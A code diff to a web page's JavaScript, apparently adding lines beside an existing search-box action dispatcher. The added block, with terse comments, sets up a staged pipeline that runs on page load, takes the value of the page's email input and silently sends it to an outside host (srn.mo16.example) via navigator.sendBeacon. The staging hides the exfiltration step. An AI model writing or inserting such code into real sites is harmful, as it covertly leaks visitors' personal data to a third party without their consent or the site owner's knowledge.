@@ -60,3 +60,13 @@ var actions = {
   hide: function () { document.body.hidden = true; },
 };
 document.querySelector('input[type=search]').onchange = function () { actions[this.dataset.action](this.value); };
+
+//# steps-run-by-number
+// flow: email > srn.mo16.example via beacon
+// why: the second step is run by the next number
+const stages = [
+  (value, next) => next(value.trim()),
+  (value) => navigator.sendBeacon('https://srn.mo16.example/s', value),
+];
+const go = (value, i) => stages[i](value, (v) => go(v, i + 1));
+go(document.querySelector('input[type=email]').value, 0);
